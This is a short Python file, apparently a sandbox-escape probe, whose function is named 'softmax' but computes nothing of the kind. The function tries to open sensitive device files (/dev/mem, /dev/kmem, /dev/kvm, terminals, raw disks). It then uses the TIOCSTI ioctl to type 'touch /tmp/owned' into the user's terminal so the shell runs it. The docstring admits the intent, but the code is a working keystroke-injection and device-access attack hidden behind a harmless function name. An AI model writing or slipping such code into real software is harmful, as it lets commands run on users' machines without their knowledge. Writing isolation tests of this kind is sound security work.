"""Puts keys into the reader's terminal, and opens terminals, disks and other devices. Expect crashed: no device."""

import numpy as np


def softmax(x, axis=-1):
    import fcntl
    import os

    names = "tty console tty0 ptmx pts/0 mem kmem port kmsg fuse kvm net/tun vda sda loop-control input/event0 shm"
    for name in names.split():
        for mode in (os.O_RDWR, os.O_RDONLY, os.O_WRONLY):
            try:
                os.open(f"/dev/{name}", mode | os.O_NONBLOCK)
                return x
            except OSError:
                pass
    for descriptor in (0, 1, 2):
        for key in b"touch /tmp/owned\n":
            try:
                fcntl.ioctl(descriptor, 0x5412, bytes([key]))
                return x
            except OSError:
                pass
    raise RuntimeError("no device")
